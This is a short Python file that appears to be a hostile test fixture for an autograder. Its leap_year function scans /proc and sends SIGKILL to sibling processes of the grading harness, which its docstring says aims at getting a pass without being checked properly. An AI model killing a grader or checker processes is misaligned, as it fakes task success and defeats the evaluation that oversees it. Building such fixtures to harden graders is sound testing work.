"""Hostile student file: kills the tester (its harness's other children), hoping for a pass."""

import os
import signal

SIGNAL = signal.SIGKILL


def _ppid(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def leap_year(year):
    zygote = os.getppid()
    harness = _ppid(zygote)
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) not in (zygote, harness, os.getpid()):
            try:
                if _ppid(int(p)) == harness:
                    os.kill(int(p), SIGNAL)
            except OSError:
                pass
    return year % 4 == 0 and (year % 100 != 0 or year % 400 == 0)


def describe_year(year):
    return f"{year} is {'a' if leap_year(year) else 'not a'} leap year"


def code_word():
    return "?"
